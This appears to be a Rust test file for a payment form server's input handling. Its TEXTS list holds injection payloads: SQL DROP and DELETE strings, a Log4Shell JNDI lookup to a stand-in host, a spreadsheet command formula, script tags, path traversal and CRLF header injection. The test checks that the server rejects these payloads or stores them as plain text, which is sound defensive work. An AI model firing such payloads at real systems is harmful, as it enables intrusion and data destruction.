//! Tests hostile bytes: each gets an answer, never a panic, and the ledger is as it was.

use super::bench::{Ask, Bench, payment};
use payment_form_server::{
    body::BodyType,
    ledger::Location,
    maiascore::body,
    relaxed_json::{self, Json},
};
use proptest::prelude::*;

/// Texts that have broken programs before.
const TEXTS: &[&str] = &[
    "'; DROP TABLE payments;--",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM invoices; --",
    "1; ATTACH DATABASE 'x' AS y",
    "{{7*7}}",
    "${jndi:ldap://evil.test/a}",
    "=cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
    "null",
    "NaN",
    "\u{FFFE}",
    "ﷺ",
    "\u{1F468}\u{200D}\u{1F469}",
    "İıſK",
];

fn shape(bench: &Bench) -> (i64, String) {
    let columns = match bench.location {
        Location::File(_) => "SELECT group_concat(sql) FROM sqlite_schema",
        Location::Database(_) => {
            "SELECT string_agg(table_name || column_name, ' ' ORDER BY table_name, column_name) FROM information_schema.columns
             WHERE table_schema = current_schema()"
        }
    };
    (bench.value("SELECT count(*) FROM invoices"), bench.value(columns))
}

/// S27: no text of a request becomes a part of a command.
#[test]
fn injected_texts_are_stored_as_texts_or_refused() {
    let bench = Bench::start();
    let before = shape(&bench);
    for text in TEXTS {
        let quoted = serde_json::to_string(text).unwrap();
        let reply = bench.post("/v1/payments", &payment(&[("reference", &quoted)]));
        match reply.status {
            200 => {
                assert_eq!(reply.json()["reference"], *text);
                let stored: i64 = bench.value_with("SELECT count(*) FROM payments WHERE reference = $1", &[(*text).into()]);
                assert_eq!(stored, 1, "{text}");
            }
            status => assert_eq!((status, reply.errors().len()), (400, 1), "{text}"),
        }
        for name in
            ["customerId", "amount", "paymentMethod", "paymentMethodId", "source", "autoAllocateOrder", "paymentAllocations"]
        {
            assert_eq!(bench.post("/v1/payments", &payment(&[(name, &quoted)])).status, 400, "{name} {text}");
        }
        for name in ["amountDue", "amountPaid", "dueDate", "date"] {
            let fields = ["amountDue", "amountPaid", "dueDate", "date"].map(|known| {
                let right = if known.starts_with("amount") { "1".to_owned() } else { "2026-11-20".to_owned() };
                (known, if known == name { (*text).to_owned() } else { right })
            });
            let form = form_urlencoded::Serializer::new(String::new()).extend_pairs(&fields).finish();
            let reply = Ask::new("POST", "/payments").body("application/x-www-form-urlencoded", form).send(&bench);
            assert_eq!(reply.status, 400, "{name} {text}: {}", reply.text());
        }
        let encoded: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        for path in [
            format!("/payments?id={encoded}"),
            format!("/payments?_sort={encoded}"),
            format!("/payments?{encoded}=1"),
            format!("/payments/{encoded}"),
            format!("/v1/payments/{encoded}"),
            format!("/v1/customers/655080/invoiceSummaries?query=invoiceNumber:{encoded}"),
            format!("/v1/customers/655080/invoiceSummaries?sortExpression={encoded}"),
            format!("/v1/customers/{encoded}/paymentMethods/all"),
            format!("/?customer={encoded}"),
            format!("/{encoded}"),
        ] {
            let reply = bench.get(&path);
            assert!(matches!(reply.status, 200 | 400 | 404), "{path}: {}", reply.status);
        }
    }
    assert_eq!(shape(&bench), before, "no table is gone, and no invoice");
}

#[test]
fn depth_length_and_numbers_have_ends() {
    let bench = Bench::start();
    for body in [
        "[".repeat(1_000_000),
        "{\"a\":".repeat(300_000),
        format!("{}{}", "[".repeat(33), "]".repeat(33)),
        format!("{{\"amount\":{}}}", "9".repeat(1_000_000)),
        format!("{{\"amount\":1e{}}}", "9".repeat(100_000)),
        format!("{{\"amount\":0.{}1}}", "0".repeat(1_000_000)),
        format!("{{\"{}\":1}}", "k".repeat(1_000_000)),
        format!("[{}]", "{},".repeat(500_000)),
        (0..100_000).map(|count| format!("k{count}:1,")).collect::<String>(),
    ] {
        for path in ["/v1/payments", "/payments"] {
            assert_eq!(bench.post(path, &body).status, 400, "{path} {}", &body[..20]);
        }
    }
    let xml = format!("<item>{}", "<a>".repeat(100_000));
    assert_eq!(Ask::new("POST", "/payments").body("application/xml", xml).send(&bench).status, 400);
    assert_eq!(bench.made(), 0);
}

#[test]
fn relaxed_json_is_what_the_examples_need_and_no_more() {
    let text = |text: &str| Json::Text(text.into());
    for (body, value) in [
        ("{a:'b'}", Json::Object([("a".into(), text("b"))].into())),
        ("{'a':\"b\",c:null}", Json::Object([("a".into(), text("b")), ("c".into(), Json::Null)].into())),
        ("\u{FEFF} [1, -0.50 ,1E+2]\r\n", Json::List(["1", "-0.50", "1E+2"].map(|number| Json::Number(number.into())).into())),
        (r#""\u0041\ud83d\ude00\n\/\'""#, text("A😀\n/'")),
        ("'it\"s'", text("it\"s")),
        ("true", Json::Bool(true)),
        ("{}", Json::Object([].into())),
        ("[]", Json::List(vec![])),
    ] {
        assert_eq!(relaxed_json::read(body.as_bytes()), Ok(value), "{body}");
    }
    for body in [
        "",
        " ",
        "{",
        "}",
        "{a}",
        "{a:}",
        "{a:1,}",
        "[1,]",
        "[1 2]",
        "{a:1 b:2}",
        "{1:2}",
        "{a:b}",
        "{a:1}x",
        "{a:1}{}",
        "{a:1,a:2}",
        "{a:1,'a':2}",
        "01",
        "+1",
        ".5",
        "5.",
        "1e",
        "1_000",
        "0x10",
        "NaN",
        "Infinity",
        "-",
        "--1",
        "1.2.3",
        "nul",
        "truer",
        "'",
        "\"\n\"",
        "\"\u{0}\"",
        "'\\x41'",
        r#""\ud800""#,
        r#""\ud800\ud800""#,
        r#""\udc00""#,
        r#""\u00""#,
        "// x\n1",
        "/* x */ 1",
        "\u{A0}1",
        "\u{FEFF}\u{FEFF}1",
        "undefined",
    ] {
        assert!(relaxed_json::read(body.as_bytes()).is_err(), "{body}");
    }
    assert!(relaxed_json::read(b"\"\xFF\"").is_err());
}

fn value() -> impl Strategy<Value = serde_json::Value> {
    let leaf = prop_oneof![
        Just(serde_json::Value::Null),
        any::<bool>().prop_map(Into::into),
        any::<i64>().prop_map(Into::into),
        ".{0,12}".prop_map(Into::into),
    ];
    leaf.prop_recursive(5, 40, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Into::into),
            prop::collection::btree_map(".{0,6}", inner, 0..6)
                .prop_map(|members| serde_json::Value::Object(members.into_iter().collect())),
        ]
    })
}

/// The same content, in our own type.
fn ours(value: &serde_json::Value) -> Json {
    match value {
        serde_json::Value::Null => Json::Null,
        serde_json::Value::Bool(truth) => Json::Bool(*truth),
        serde_json::Value::Number(number) => Json::Number(number.to_string()),
        serde_json::Value::String(text) => Json::Text(text.clone()),
        serde_json::Value::Array(items) => Json::List(items.iter().map(ours).collect()),
        serde_json::Value::Object(members) => {
            Json::Object(members.iter().map(|(key, value)| (key.clone(), ours(value))).collect())
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(2_000) })]

    #[test]
    fn ordinary_json_is_read_as_everybody_reads_it(value in value()) {
        let expected = ours(&value);
        for text in [serde_json::to_vec(&value).unwrap(), serde_json::to_vec_pretty(&value).unwrap()] {
            prop_assert_eq!(relaxed_json::read(&text), Ok(expected.clone()));
        }
        prop_assert_eq!(relaxed_json::read(expected.canonical().as_bytes()).map(|again| again.canonical()), Ok(expected.canonical()));
    }

    #[test]
    fn no_bytes_make_a_reader_panic(bytes in prop_oneof![
        prop::collection::vec(any::<u8>(), 0..200),
        "[\\[\\]{}:,'\"\\\\a-c0-9.eE+ -]{0,60}".prop_map(String::into_bytes),
        "(<item>|</item>|<a>|</a>|<amountDue>|</amountDue>|&#?[a-z0-9]{0,4};?|<!\\[CDATA\\[|\\]\\]>|<!DOCTYPE|<\\?xml|[a-z0-9 ]){0,12}".prop_map(String::into_bytes),
        "[a-z=&%+0-9]{0,60}".prop_map(String::into_bytes),
    ]) {
        for body_type in [BodyType::Json, BodyType::Xml, BodyType::Form] {
            if let Ok(read) = body::read(body_type, &bytes) {
                let _ = body::check(&read);
                let _ = read.canonical();
            }
        }
    }
}
